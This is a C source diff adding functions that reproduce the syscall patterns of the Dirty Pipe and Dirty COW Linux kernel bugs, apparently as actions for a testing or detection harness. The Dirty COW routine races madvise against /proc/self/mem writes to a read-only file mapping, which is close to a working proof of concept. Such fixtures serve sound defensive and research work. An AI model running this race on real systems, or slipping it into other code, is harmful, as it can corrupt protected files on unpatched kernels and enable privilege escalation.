@@ -110,3 +110,35 @@ void act_clone(void)
 		exit(0);
 	waitpid(pid, NULL, 0);
 }
+
+/* The shape of Dirty Pipe: a page of a file goes into a pipe by splice, then the pipe is written to. */
+void act_dirtypipe(void)
+{
+	int ends[2], fd = open(arguments[0], O_RDONLY);
+	long at = 0;
+	need(fd, arguments[0]);
+	need(pipe(ends), "pipe");
+	need(splice(fd, &at, ends[1], NULL, 1, 0), "splice");
+	need(write(ends[1], "x", 1), "write");
+}
+
+static void *forget(void *page)
+{
+	for (int i = 0; i < 20000; i++)
+		madvise(page, 4096, MADV_DONTNEED);
+	return NULL;
+}
+
+/* The shape of Dirty COW: a private page is thrown away while /proc/self/mem writes to it. */
+void act_dirtycow(void)
+{
+	pthread_t thread;
+	int fd = open(arguments[0], O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
+	need(fd, arguments[0]);
+	need(memory, "/proc/self/mem");
+	char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
+	pthread_create(&thread, NULL, forget, page);
+	for (int i = 0; i < 20000; i++)
+		pwrite(memory, "x", 1, (long)page);
+	pthread_join(thread, NULL);
+}
